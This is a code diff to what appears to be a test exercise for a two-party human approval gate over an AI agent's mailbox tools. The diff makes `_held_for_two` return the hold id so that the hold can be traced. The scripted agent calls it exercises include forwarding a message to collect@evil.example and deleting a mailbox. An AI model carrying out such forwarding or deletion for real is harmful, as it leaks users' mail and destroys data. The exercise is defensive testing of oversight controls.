@@ -224,13 +224,14 @@ def _human_command(play: Exercise) -> None:
         _calls(play, agent, "forward", message="m-1", to="collect@evil.example")
         _calls(play, agent, "label_attachment", message="m-7", type="pdf")
         _calls(play, agent, "delete_mailbox", mailbox="registry")
-        _held_for_two(play, agent)
+        hold = _held_for_two(play, agent)
         alfa.runs("gate", "stop", "magika 1.0.3", "--reason", "the watch changes")
         _calls(play, agent, "label_attachment", message="m-1", type="pdf")
     play.shown.line("  (what the mailbox itself wrote down as done:)")
     for tool, args in done(play.folder, "alfa.done"):
         play.shown.line(f"    {tool} {' '.join(f'{name}={value}' for name, value in args.items())}")
     play.exchange()
+    alfa.runs("trace", hold, lines=16)
     for name in GATES:
         member = play.members[name]
         member.runs("gate", "mandate", "mandate.toml", "--decision", _own(member, "decision")[0], show=False)
@@ -238,8 +239,8 @@ def _human_command(play: Exercise) -> None:
     play.exchange()
 
 
-def _held_for_two(play: Exercise, agent: Agent) -> None:
-    """Held, approved by people of two members, and let go when the agent asks the same again: once."""
+def _held_for_two(play: Exercise, agent: Agent) -> str:
+    """Held, approved by people of two members, and let go when the agent asks the same again: once. The hold's id."""
     alfa, call = play.members["ALFA"], {"message": "m-7", "sender": "port@echo.example"}
     hold = _calls(play, agent, "quarantine", **call).split()[1]
     alfa.runs("gate", "request", hold, "--output", "hold.json")
@@ -253,6 +254,7 @@ def _held_for_two(play: Exercise, agent: Agent) -> None:
     if not again.startswith("HELD"):
         raise NotAsExpected("ALFA: the approvals let the same action go twice", again)
     play.shown.line("  (asked once more, it is a new action, and waits for people anew)")
+    return hold
 
 
 def _calls(play: Exercise, agent: Agent, tool: str, **args: str) -> str:
